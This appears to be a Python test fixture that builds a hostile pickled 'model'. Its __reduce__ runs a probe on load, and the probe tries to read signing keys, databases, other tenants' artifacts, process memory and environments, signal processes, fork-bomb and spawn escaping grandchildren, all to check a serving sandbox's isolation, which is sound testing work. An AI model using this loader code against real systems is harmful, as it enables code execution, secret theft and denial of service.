"""A hostile model: a pickle whose load runs a probe that tries every reach of issue 8.

The probe runs wherever the model is unpickled (the build's child, a replica), tries each
reach for real and reports what it managed as one line `REACH-REPORT {json}`: on stderr
(a replica's log) and, in `raise` mode, as the load's exception (the build's reason). The
model it then returns is a real iris classifier, so a replica serving it gets ready.
"""

from __future__ import annotations

import json
import pickle
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

MARKER = "REACH-REPORT "

# Runs inside the sandboxed process. Every reach returns (reached, evidence).
PROBE = r"""
import json, os, signal, socket, sys, time
MARKER = 'REACH-REPORT '
T = json.loads(TARGETS)
report = {}

def reach(name, fn):
    try:
        report[name] = [bool(fn[0]), str(fn[1])[:120]] if isinstance(fn, tuple) else [bool(fn), ""]
    except BaseException as exc:
        report[name] = [False, type(exc).__name__ + ": " + str(exc)[:100]]

def attempt(name, fn):
    try:
        got = fn()
    except BaseException as exc:
        got = (False, type(exc).__name__ + ": " + str(exc)[:100])
    reach(name, got)

def read(path, n=64):
    with open(path, "rb") as fh:
        data = fh.read(n)
    return (len(data) > 0, repr(data[:16]))

def write(path):
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    os.close(fd)
    return (True, "opened for writing")

def listing(path):
    names = os.listdir(path)
    return (len(names) > 0, ",".join(sorted(names)[:8]))

def memory(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        if fh.read() != T["victim_cmdline"].encode("latin-1"):
            return (False, "pid not visible (another process has that number)")
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("r"):
                start = int(span.split("-")[0], 16)
                with open(f"/proc/{pid}/mem", "rb") as mem:
                    mem.seek(start)
                    return (len(mem.read(64)) > 0, f"read memory at {start:#x}")
    return (False, "no readable mapping")

def environ(pid, expect):
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        if fh.read() != expect.encode("latin-1"):
            return (False, "pid not visible (another process has that number)")
    with open(f"/proc/{pid}/environ", "rb") as fh:
        data = fh.read()
    return (len(data) > 0, f"{len(data)} bytes")

def signal_victim():
    pid = T["sleeper_pid"]
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        if fh.read() != T["sleeper_cmdline"].encode("latin-1"):
            return (False, "pid not visible (another process has that number)")
    os.kill(pid, signal.SIGTERM)
    return (True, "sent SIGTERM")

def fork_bomb():
    kids = []
    try:
        for _ in range(T["fork_bomb"]):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            kids.append(pid)
    except OSError as exc:
        return (False, f"stopped after {len(kids)} forks: {exc}")
    finally:
        for pid in kids:
            os.kill(pid, signal.SIGKILL)
        for pid in kids:
            os.waitpid(pid, 0)
    return (True, f"{len(kids)} processes")

def grandchild():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 65536)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", T["marker"]])
        os._exit(0)
    os.waitpid(pid, 0)
    return (True, "spawned (the test checks whether it outlives its sandbox)")

def search():
    # anything of the control plane's, anywhere this process can see
    seen, found = 0, []
    for root, dirs, files in os.walk("/"):
        skip = ("/proc", "/sys", "/dev", "/usr", "site-packages", "python3.11")
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip and d not in skip]
        for name in files:
            if name in ("secret_key", "kubeserve.db") or "/artifacts/models/" in root:
                found.append(os.path.join(root, name))
        seen += len(files)
        if seen > 300000 or len(found) > 3:
            break
    return (bool(found), ",".join(found[:3]) or f"none among {seen} files")

def connect():
    with socket.create_connection(("127.0.0.1", T["tcp_port"]), timeout=2):
        return (True, f"connected to 127.0.0.1:{T['tcp_port']}")

attempt("read signing key", lambda: read(T["secret_key"]))
attempt("read database", lambda: read(T["database"]))
attempt("list data dir", lambda: listing(T["data_dir"]))
attempt("find keys, databases, artifacts anywhere", search)
attempt("read other tenant's artifact", lambda: read(T["other_artifact"]))
attempt("write other tenant's artifact", lambda: write(T["other_artifact"]))
if T.get("victim_pid"):
    attempt("read other replica's memory", lambda: memory(T["victim_pid"]))
    attempt("read other replica's environment", lambda: environ(T["victim_pid"], T["victim_cmdline"]))
cp = (T["control_plane_pid"], T["control_plane_cmdline"])
attempt("read control plane's environment", lambda: environ(*cp))
attempt("signal another process", signal_victim)
attempt("fork without bound", fork_bomb)
attempt("setsid() grandchild", grandchild)
attempt("connect to control plane's TCP port", connect)
line = MARKER + json.dumps(report)
sys.stderr.write(line + "\n")
sys.stderr.flush()
if T["mode"] == "raise":
    raise RuntimeError(line)
"""


@dataclass
class Targets:
    """What the probe aims at (host paths and pids, as an attacker would guess or find them)."""

    secret_key: str
    database: str
    data_dir: str
    other_artifact: str
    control_plane_pid: int
    control_plane_cmdline: str
    sleeper_pid: int
    sleeper_cmdline: str
    tcp_port: int
    marker: str
    mode: str = "log"  # "raise": the load fails with the report (a build's reason)
    victim_pid: int | None = None
    victim_cmdline: str = ""
    fork_bomb: int = 400


def cmdline(pid: int) -> str:
    return Path(f"/proc/{pid}/cmdline").read_bytes().decode("latin-1")


class _Probe:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (self.source,))


def write_model(path: Path, targets: Targets, model: Any) -> Path:
    """A pickle that runs the probe on load, then returns `model` (a real classifier)."""
    inner = pickle.dumps(model)
    code = f"TARGETS = {json.dumps(json.dumps(asdict(targets)))}\n" + PROBE
    source = f"(exec({code!r}, {{}}), __import__('pickle').loads({inner!r}))[1]"
    path.write_bytes(pickle.dumps(_Probe(source)))
    return path


def parse(text: str) -> dict[str, list[Any]]:
    """The probe's report from a log or a build reason."""
    start = text.rindex(MARKER) + len(MARKER)
    decoder = json.JSONDecoder()
    report, _ = decoder.raw_decode(text[start:])
    return report  # type: ignore[no-any-return]
